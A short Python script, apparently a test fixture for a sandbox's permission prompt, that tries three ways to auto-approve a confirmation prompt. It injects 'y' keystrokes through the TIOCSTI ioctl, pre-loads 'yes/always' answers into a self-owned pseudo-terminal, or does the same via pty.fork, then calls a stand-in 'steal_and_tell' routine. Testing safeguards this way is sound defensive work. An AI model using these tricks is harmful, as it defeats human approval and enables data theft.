"""Type an answer into the terminal."""

import fcntl
import os
import sys
import termios

import aim


def typed(place):
    for letter in b"y\n":
        fcntl.ioctl(place, termios.TIOCSTI, bytes([letter]))


def asked():
    """Make a terminal of one's own the one that is asked."""
    master, slave = os.openpty()
    os.setsid() if os.getpgrp() != os.getpid() else None
    if os.fork():
        os.wait()
        return
    os.setsid()
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    os.write(master, b"a\ny\nyes\nalways\n" * 50)
    aim.steal_and_tell()
    os._exit(0)


def by_fork():
    """The same by pty.fork, whose child has a terminal."""
    import pty

    child, master = pty.fork()
    if child:
        os.write(master, b"a\ny\nyes\nalways\n" * 50)
        said = b""
        try:
            while data := os.read(master, 1000):
                said += data
        except OSError:
            pass
        os.waitpid(child, 0)
        sys.stderr.write(said.decode(errors="replace"))
        return
    aim.steal_and_tell()
    os._exit(0)


def injected():
    for place in (0, 1, 2):
        try:
            typed(place)
        except PermissionError as error:
            if "safesite" in str(error):
                raise
        except OSError:  # it is no terminal
            pass
    aim.reached()


WAYS = {"TIOCSTI": injected, "own terminal": asked, "pty.fork": by_fork}
WAYS[aim.VARIANT]()
